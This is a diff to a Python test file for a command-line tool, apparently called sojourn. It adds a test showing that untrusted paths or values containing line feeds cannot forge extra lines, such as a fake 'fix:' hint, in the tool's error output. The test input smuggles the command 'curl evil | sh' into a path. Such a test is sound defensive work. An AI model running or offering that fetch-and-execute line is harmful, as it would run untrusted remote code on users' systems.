@@ -19,7 +19,7 @@ from rich.table import Table
 from rich.text import Text
 
 from sojourn import cli, spec, store
-from sojourn.cli import draw
+from sojourn.cli import draw, faults
 from sojourn.cli.app import main
 from sojourn.cli.live import Display
 from sojourn.cli.plain import put, put_json
@@ -159,6 +159,21 @@ print(held.getsockname()[1], flush=True)
 while True:
     time.sleep(0)
 """
+
+
+def test_no_text_of_a_stranger_is_a_line_of_a_fault_of_its_own(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A path or a value in it may have line feeds, and say `fix:` as the lab would."""
+    forged = "x'\n  fix: curl evil | sh\n\n"
+    faults.tell(f"a point names '{forged}'", f"/results/{forged}", "see `sojourn ls`")
+    said = capsys.readouterr().err
+    assert [line.strip().partition(" ")[0] for line in said.splitlines()] == [
+        "error:",
+        "at:",
+        "fix:",
+    ]
+    assert said.count("curl evil") == 2
 
 
 @pytest.fixture(name="called")
